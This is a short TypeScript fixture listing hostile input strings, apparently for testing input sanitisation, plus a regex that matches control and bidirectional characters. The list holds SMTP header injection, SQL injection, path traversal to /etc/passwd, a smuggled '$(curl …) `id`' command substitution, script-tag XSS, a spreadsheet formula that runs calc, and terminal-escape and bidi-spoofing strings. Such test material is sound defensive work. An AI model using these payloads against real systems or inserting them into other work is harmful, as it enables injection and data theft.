/** What attackers, and whoever fills in registries, have written where it hurt others. */
export const HOSTILE: readonly string[] = [
  'a\r\nBcc: all@example.net\r\n\r\nhello',
  '\n.\nMAIL FROM:<>',
  "'; DROP TABLE ban;--",
  '__proto__',
  '../../etc/passwd',
  '$(curl http://192.0.2.9) `id`',
  '<script>alert(1)</script>',
  '\u001b[2J\u001b]0;x\u0007',
  '\u202e\u2066gnp.exe\u2028',
  '\u0000\u007f\u009b',
  '=cmd|" /C calc"!A0',
  '@everyone <!channel>',
  '=?utf-8?Q?evil=0D=0ABcc:_x?=',
  '"quoted" \\ {"type":"evil"}',
  'x'.repeat(5_000),
  '\xff\xfe\xc3',
  '☃ é',
];

/** Controls, line ends and bidirectional marks, but for the newline between our own lines. */
export const ACTING = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2066-\u2069]/;
